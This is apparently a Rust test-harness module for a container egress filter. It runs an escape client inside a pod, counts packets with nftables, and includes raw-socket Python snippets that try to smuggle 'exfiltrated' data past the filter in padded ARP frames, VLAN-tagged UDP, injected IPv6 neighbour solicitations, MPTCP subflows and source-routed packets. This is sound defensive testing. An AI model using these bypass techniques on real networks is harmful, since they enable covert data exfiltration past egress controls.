//! The attacker's side of the escape tests: the `egress-escape` C client (built
//! from `tests/attack/escape.c` by the build script), run inside a pod with a
//! container's privileges, and a packet counter on the receiving side.
//!
//! Source routes (`lsrr-opt HOP DST PORT`, `rthdr-opt ...`): the client calls
//! sendto(HOP) — what the connect/sendmsg hooks see — while the route it sets
//! makes the kernel put DST on the wire as the packet's destination.

use std::io::{BufRead, BufReader};
use std::net::IpAddr;
use std::path::PathBuf;
use std::process::{Child, ChildStdout, Command, Stdio};
use std::time::{Duration, Instant};

use crate::{Netns, Place, sh, unique};

/// The attack client: `$EGRESS_ESCAPE_BIN` at run time, else the one the build
/// script compiled.
pub fn escape_bin() -> PathBuf {
    if let Some(p) = std::env::var_os("EGRESS_ESCAPE_BIN") {
        return PathBuf::from(p);
    }
    PathBuf::from(env!("EGRESS_ESCAPE_BIN"))
}

/// One escape attempt as the client reported it.
#[derive(Debug, Clone, serde::Deserialize)]
pub struct Attempt {
    pub attempt: String,
    /// The socket was created and the send syscall succeeded.
    pub ok: bool,
    /// The syscall that failed, or "done".
    pub step: String,
    /// errno of the failed step, 0 on success.
    pub errno: i32,
    pub error: String,
    /// Bytes the send syscall accepted (-1 when it failed or was not reached).
    #[serde(default)]
    pub sent: i64,
    /// What a stream attempt read back.
    #[serde(default)]
    pub reply: String,
    /// Routing header type used (`rthdr-*`).
    #[serde(default)]
    pub rthdr_type: Option<i32>,
    /// Routing header types tried: `type:step:errno,...` (`rthdr-*`).
    #[serde(default)]
    pub tried: String,
    /// The address the hooks see and the one the route puts on the wire.
    #[serde(default)]
    pub hooked: String,
    #[serde(default)]
    pub wire_dst: String,
    /// Source address read from the interface (`packet`).
    #[serde(default)]
    pub src: String,
    /// `hold-tcp`: SIGUSR1 (not the timeout) released it.
    #[serde(default)]
    pub signalled: Option<i64>,
}

/// Who the attacker is inside the pod.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Privilege {
    /// The test's own root with every capability.
    Root,
    /// uid/gid 65534, no supplementary groups, exactly Docker's default
    /// capabilities (effective through the ambient set), NET_RAW included.
    ContainerDefault,
    /// The same without NET_RAW.
    ContainerDefaultNoRaw,
}

/// Docker's default capability set.
pub const DOCKER_DEFAULT_CAPS: &[&str] = &[
    "chown",
    "dac_override",
    "fsetid",
    "fowner",
    "mknod",
    "net_raw",
    "setgid",
    "setuid",
    "setfcap",
    "setpcap",
    "net_bind_service",
    "sys_chroot",
    "kill",
    "audit_write",
];

pub const SETPRIV: &str = "/usr/bin/setpriv";
pub const NOBODY: u32 = 65534;

impl Privilege {
    /// `setpriv` arguments (before the program), none for `Root`.
    pub fn setpriv_args(self) -> Vec<String> {
        let caps: Vec<String> = match self {
            Privilege::Root => return Vec::new(),
            Privilege::ContainerDefault => DOCKER_DEFAULT_CAPS
                .iter()
                .map(|c| format!("+{c}"))
                .collect(),
            Privilege::ContainerDefaultNoRaw => DOCKER_DEFAULT_CAPS
                .iter()
                .filter(|c| **c != "net_raw")
                .map(|c| format!("+{c}"))
                .collect(),
        };
        let set = format!("-all,{}", caps.join(","));
        vec![
            format!("--reuid={NOBODY}"),
            format!("--regid={NOBODY}"),
            "--clear-groups".into(),
            format!("--inh-caps={set}"),
            format!("--ambient-caps={set}"),
            format!("--bounding-set={set}"),
            "--".into(),
        ]
    }
}

/// A command running `program` inside `place` (cgroup and netns joined before
/// exec) with `privilege`; `setpriv` execs the program, so the child's pid is the
/// program's.
pub fn command_as(place: &Place, privilege: Privilege, program: &str) -> Command {
    match privilege {
        Privilege::Root => place.command(program),
        p => {
            let mut cmd = place.command(SETPRIV);
            cmd.args(p.setpriv_args()).arg(program);
            cmd
        }
    }
}

/// The escape client's command line inside `place`.
pub fn attack_command(place: &Place, privilege: Privilege, args: &[&str]) -> Command {
    let mut cmd = command_as(place, privilege, escape_bin().to_str().unwrap());
    cmd.args(args);
    cmd
}

/// Parses the client's result (its last line).
pub fn parse_attempt(stdout: &[u8], stderr: &[u8]) -> Attempt {
    let text = String::from_utf8_lossy(stdout);
    let line = text
        .lines()
        .rev()
        .find(|l| !l.trim().is_empty())
        .unwrap_or("");
    serde_json::from_str(line).unwrap_or_else(|e| {
        panic!(
            "escape output {text:?} ({e}); stderr: {}",
            String::from_utf8_lossy(stderr)
        )
    })
}

/// Runs one escape attempt inside `place` as `privilege`.
pub fn attack(place: &Place, privilege: Privilege, args: &[&str]) -> Attempt {
    let out = attack_command(place, privilege, args)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("running egress-escape {args:?}: {e}"));
    assert!(
        out.status.code() == Some(0),
        "egress-escape {args:?} exited {}: {}{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    parse_attempt(&out.stdout, &out.stderr)
}

/// `hold-tcp`: a TCP socket created in the pod, connected only once `release`
/// is called (move the process to another cgroup in between).
pub struct HeldAttack {
    child: Child,
    stdout: BufReader<ChildStdout>,
    /// The client's pid (what to write to another cgroup.procs).
    pub pid: u32,
}

impl HeldAttack {
    /// Starts the client and waits until its socket exists. It connects by
    /// itself after `seconds` if never released.
    pub fn start(
        place: &Place,
        privilege: Privilege,
        dst: IpAddr,
        port: u16,
        seconds: u32,
    ) -> Self {
        let mut child = attack_command(
            place,
            privilege,
            &[
                "hold-tcp",
                &dst.to_string(),
                &port.to_string(),
                &seconds.to_string(),
            ],
        )
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("start egress-escape hold-tcp");
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).expect("read ready line");
        assert!(line.contains("\"ready\":true"), "hold-tcp: {line:?}");
        let pid = child.id();
        Self { child, stdout, pid }
    }

    /// Sends SIGUSR1 (connect now) and returns the result.
    pub fn release(mut self) -> Attempt {
        // SAFETY: signalling the child we started.
        unsafe { libc::kill(self.pid as i32, libc::SIGUSR1) };
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut self.stdout, &mut rest).expect("read hold-tcp");
        let _ = self.child.wait();
        parse_attempt(rest.as_bytes(), b"")
    }
}

impl Drop for HeldAttack {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Lets every group open ICMP "ping" sockets in `netns`
/// (`net.ipv4.ping_group_range`, which also governs ICMPv6).
pub fn allow_ping_group(netns: &Netns) {
    let net = format!("--net={}", netns.path().display());
    sh(
        "nsenter",
        &[
            &net,
            "sysctl",
            "-w",
            "net.ipv4.ping_group_range=0 2147483647",
        ],
    );
}

/// The MAC address of `iface` in `netns`.
pub fn mac_of(netns: &Netns, iface: &str) -> String {
    let out = netns.ip(&["-j", "link", "show", iface]);
    let v: serde_json::Value = serde_json::from_str(&out).expect("ip -j link");
    v[0]["address"]
        .as_str()
        .unwrap_or_else(|| panic!("no address in {out}"))
        .to_owned()
}

/// Runs `nft` inside `netns` with `script` on stdin.
fn nft(netns: &std::path::Path, args: &[&str], script: Option<&str>) -> std::io::Result<String> {
    let net = format!("--net={}", netns.display());
    let mut cmd = Command::new("nsenter");
    cmd.arg(&net).arg("nft").args(args);
    cmd.stdin(if script.is_some() {
        Stdio::piped()
    } else {
        Stdio::null()
    })
    .stdout(Stdio::piped())
    .stderr(Stdio::piped());
    let mut child = cmd.spawn()?;
    if let Some(s) = script {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(s.as_bytes())?;
    }
    let out = child.wait_with_output()?;
    if !out.status.success() {
        return Err(std::io::Error::other(format!(
            "nft {args:?} failed: {}{}",
            String::from_utf8_lossy(&out.stderr),
            script.unwrap_or("")
        )));
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// Counts packets arriving on an interface of the receiving namespace whose
/// source is one of the watched addresses, at netdev ingress (before routing,
/// conntrack or any socket), in a table of its own removed on drop.
///
/// IPv6 neighbour discovery from a watched address is counted apart (`nd6`), so a
/// blocked pod resolving the receiver's MAC does not count as an escape.
pub struct PacketCounter {
    table: NetdevTable,
}

/// An nftables `netdev` table of its own in a namespace, with named counters;
/// deleted on drop.
struct NetdevTable {
    netns: PathBuf,
    name: String,
}

impl NetdevTable {
    /// Loads `script(name)`, which declares `table netdev NAME { ... }`.
    fn load(ns: &Netns, script: impl FnOnce(&str) -> String) -> Self {
        let name = unique("egcnt");
        nft(&ns.path(), &["-f", "-"], Some(&script(&name))).unwrap_or_else(|e| panic!("{e}"));
        Self {
            netns: ns.path(),
            name,
        }
    }

    /// Every counter of the table: name → packets.
    fn counters(&self) -> std::collections::HashMap<String, u64> {
        let out = nft(
            &self.netns,
            &["-j", "list", "counters", "table", "netdev", &self.name],
            None,
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let v: serde_json::Value = serde_json::from_str(&out).expect("nft -j output");
        v["nftables"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|o| {
                let c = o.get("counter")?;
                Some((c["name"].as_str()?.to_owned(), c["packets"].as_u64()?))
            })
            .collect()
    }
}

impl Drop for NetdevTable {
    fn drop(&mut self) {
        let _ = nft(
            &self.netns,
            &["delete", "table", "netdev", &self.name],
            None,
        );
    }
}

impl PacketCounter {
    pub fn new(ns: &Netns, iface: &str, from: IpAddr) -> Self {
        Self::with_sources(ns, iface, &[from])
    }

    /// Watches several sources (e.g. a pod's IPv4 and IPv6 addresses).
    pub fn with_sources(ns: &Netns, iface: &str, from: &[IpAddr]) -> Self {
        let v4: Vec<String> = from
            .iter()
            .filter(|a| a.is_ipv4())
            .map(|a| a.to_string())
            .collect();
        let v6: Vec<String> = from
            .iter()
            .filter(|a| a.is_ipv6())
            .map(|a| a.to_string())
            .collect();
        let mut rules = String::from("\t\tip6 nexthdr 43 counter name \"rt6\"\n");
        if !v4.is_empty() {
            let set = v4.join(", ");
            rules.push_str(&format!(
                "\t\tip saddr {{ {set} }} ip hdrlength > 5 counter name \"opt4\"\n\
                 \t\tip saddr {{ {set} }} counter name \"v4\"\n"
            ));
        }
        if !v6.is_empty() {
            let set = v6.join(", ");
            rules.push_str(&format!(
                "\t\tip6 saddr {{ {set} }} icmpv6 type {{ nd-router-solicit, nd-router-advert, \
                 nd-neighbor-solicit, nd-neighbor-advert, nd-redirect }} counter name \"nd6\" accept\n\
                 \t\tip6 saddr {{ {set} }} counter name \"v6\"\n"
            ));
        }
        let table = NetdevTable::load(ns, |table| {
            format!(
                "table netdev {table} {{\n\
                 \tcounter v4 {{ }}\n\tcounter v6 {{ }}\n\tcounter nd6 {{ }}\n\tcounter rt6 {{ }}\n\tcounter opt4 {{ }}\n\
                 \tchain ingress {{\n\
                 \t\ttype filter hook ingress device \"{iface}\" priority -500; policy accept;\n\
                 {rules}\t}}\n}}\n"
            )
        });
        Self { table }
    }

    fn counters(&self) -> std::collections::HashMap<String, u64> {
        self.table.counters()
    }

    /// IPv4 and IPv6 packets from the watched sources (neighbour discovery aside).
    pub fn packets(&self) -> u64 {
        let c = self.counters();
        c.get("v4").copied().unwrap_or(0) + c.get("v6").copied().unwrap_or(0)
    }

    pub fn packets_v4(&self) -> u64 {
        self.counters().get("v4").copied().unwrap_or(0)
    }

    pub fn packets_v6(&self) -> u64 {
        self.counters().get("v6").copied().unwrap_or(0)
    }

    /// IPv4 packets from the watched sources that carry IP options.
    pub fn packets_with_ip_options(&self) -> u64 {
        self.counters().get("opt4").copied().unwrap_or(0)
    }

    /// IPv6 packets (from anyone) whose first next header is a routing header.
    pub fn routing_header_packets(&self) -> u64 {
        self.counters().get("rt6").copied().unwrap_or(0)
    }

    /// Neighbour discovery from the watched IPv6 sources (not in `packets`).
    pub fn nd_packets(&self) -> u64 {
        self.counters().get("nd6").copied().unwrap_or(0)
    }

    /// Polls `packets()` until it reaches `want` or `timeout` passes; returns
    /// the last value.
    pub fn wait_packets(&self, want: u64, timeout: Duration) -> u64 {
        let start = Instant::now();
        loop {
            let n = self.packets();
            if n >= want || start.elapsed() > timeout {
                return n;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// Counts the frames matching one nftables expression arriving at an interface
/// of the receiving namespace (netdev ingress), in a table of its own.
pub struct NftCounter {
    table: NetdevTable,
}

/// TCP SYNs (without ACK) for one destination address.
pub type SynCounter = NftCounter;

impl NftCounter {
    /// `expr` is an nftables match, e.g. `ether type arp meta length > 100`.
    pub fn matching(ns: &Netns, iface: &str, expr: &str) -> Self {
        let table = NetdevTable::load(ns, |table| {
            format!(
                "table netdev {table} {{\n\tcounter hits {{ }}\n\tchain ingress {{\n\
                 \t\ttype filter hook ingress device \"{iface}\" priority -500; policy accept;\n\
                 \t\t{expr} counter name \"hits\"\n\t}}\n}}\n"
            )
        });
        Self { table }
    }

    pub fn new(ns: &Netns, iface: &str, dst: IpAddr) -> Self {
        let family = if dst.is_ipv4() { "ip" } else { "ip6" };
        Self::matching(
            ns,
            iface,
            &format!("{family} daddr {dst} tcp flags & (syn | ack) == syn"),
        )
    }

    /// Frames matched so far.
    pub fn count(&self) -> u64 {
        self.syns()
    }

    pub fn syns(&self) -> u64 {
        self.table.counters().get("hits").copied().unwrap_or(0)
    }
}

/// An MPTCP server on `server` (port `port`) that announces a second address of
/// its own (`extra`, added to its eth0) with ADD_ADDR, and a client namespace
/// that accepts such announcements: the kernel of the client then opens a
/// subflow to `extra` by itself (a kernel worker, not the application).
/// The server answers one connection after a second (time for the subflow).
pub struct MptcpAnnouncer {
    child: Child,
}

impl MptcpAnnouncer {
    pub fn start(server: &Netns, client: &Netns, port: u16, extra: IpAddr) -> Self {
        server.ip(&["addr", "add", &format!("{extra}/24"), "dev", "eth0"]);
        server.ip(&[
            "mptcp",
            "endpoint",
            "add",
            &extra.to_string(),
            "dev",
            "eth0",
            "signal",
        ]);
        for ns in [server, client] {
            ns.ip(&[
                "mptcp",
                "limits",
                "set",
                "subflows",
                "2",
                "add_addr_accepted",
                "2",
            ]);
        }
        let script = format!(
            "import socket,time\n\
             s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262)\n\
             s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n\
             s.bind(('0.0.0.0',{port}))\ns.listen(4)\nprint('ready',flush=True)\n\
             c,_=s.accept()\nc.recv(100)\ntime.sleep(1)\nc.sendall(b'hello from mptcp\\n')\n\
             time.sleep(0.3)\nc.close()\n"
        );
        let place = Place {
            netns: server.path(),
            cgroup: None,
        };
        let mut child = place
            .command("python3")
            .args(["-c", &script])
            .stdout(Stdio::piped())
            .spawn()
            .expect("start the MPTCP server");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .expect("read ready");
        assert_eq!(line.trim(), "ready", "MPTCP server");
        Self { child }
    }
}

impl Drop for MptcpAnnouncer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs a Python snippet inside `place` as `who`; its output (stdout, stderr).
pub fn python_as(place: &Place, who: Privilege, code: &str) -> String {
    let out = command_as(place, who, "/usr/bin/python3")
        .args(["-c", code])
        .stdin(Stdio::null())
        .output()
        .expect("run python3");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Frames of link-layer kinds carrying data, sent from a pod to one MAC of its
/// segment: what the interface line must hold (and, with no agent, reaches the
/// wire: `attack_tools.rs`). Each sender prints `sent`, `refused ERRNO` or
/// `injected`.
pub struct LinkFrames<'a> {
    place: &'a Place,
    netns: &'a Netns,
    /// The destination MAC, hex without colons.
    mac: String,
}

impl<'a> LinkFrames<'a> {
    pub fn new(place: &'a Place, netns: &'a Netns, dst_mac: &str) -> Self {
        Self {
            place,
            netns,
            mac: dst_mac.replace(':', ""),
        }
    }

    /// An ARP request of the pod's address followed by 990 bytes of data, from a
    /// packet socket (a default container).
    pub fn big_arp(&self) -> String {
        python_as(
            self.place,
            Privilege::ContainerDefault,
            &format!(
                "import socket\n\
                 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
                 s.bind(('eth0', 0))\n\
                 arp = bytes.fromhex('0001080006040001') + b'\\0'*6 + bytes([198,18,0,2]) + b'\\0'*6 + bytes([198,18,0,12])\n\
                 try:\n\
                 \x20 s.send(bytes.fromhex('{}') + s.getsockname()[4] + b'\\x08\\x06' + arp + b'exfiltrated'*90); print('sent')\n\
                 except OSError as e: print('refused', e.errno)\n",
                self.mac
            ),
        )
    }

    /// A UDP datagram to 198.18.0.12 in a frame with an 802.1Q tag, from a packet
    /// socket (a default container).
    pub fn tagged_udp(&self) -> String {
        python_as(
            self.place,
            Privilege::ContainerDefault,
            &format!(
                "import socket\n\
                 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
                 s.bind(('eth0', 0))\n\
                 ip = bytes.fromhex('4500003c00004000401100000000000000000000')\n\
                 ip = ip[:12] + bytes([198,18,0,2,198,18,0,12])\n\
                 udp = bytes.fromhex('2710270f00280000') + b'exfiltrated' * 3\n\
                 try:\n\
                 \x20 s.send(bytes.fromhex('{}') + s.getsockname()[4] + b'\\x81\\x00\\x00\\x05\\x08\\x00' + ip + udp); print('sent')\n\
                 except OSError as e: print('refused', e.errno)\n",
                self.mac
            ),
        )
    }

    /// Root in the pod: a TUN device, forwarding on, five neighbour
    /// solicitations for 2001:db8::12 with 880 bytes of data as options, injected
    /// so that the pod forwards them out of its interface.
    pub fn big_neighbour_solicitation(&self) -> String {
        let _ = self.netns;
        python_as(
            self.place,
            Privilege::Root,
            "import fcntl, os, struct, socket, time\n\
             fd = os.open('/dev/net/tun', os.O_RDWR)\n\
             fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'egtun0', 0x0001 | 0x1000))\n\
             os.system('ip link set egtun0 up; sysctl -qw net.ipv6.conf.all.forwarding=1')\n\
             time.sleep(0.2)\n\
             src = socket.inet_pton(socket.AF_INET6, '2001:db8::2')\n\
             dst = socket.inet_pton(socket.AF_INET6, '2001:db8::12')\n\
             body = bytes([135, 0, 0, 0, 0, 0, 0, 0]) + dst + b'exfiltrated' * 80\n\
             pkt = bytes([0x60, 0, 0, 0]) + struct.pack('!HBB', len(body), 58, 255) + src + dst + body\n\
             for _ in range(5):\n\
             \x20 os.write(fd, pkt)\n\
             time.sleep(0.3)\n\
             print('injected')\n",
        )
    }
}
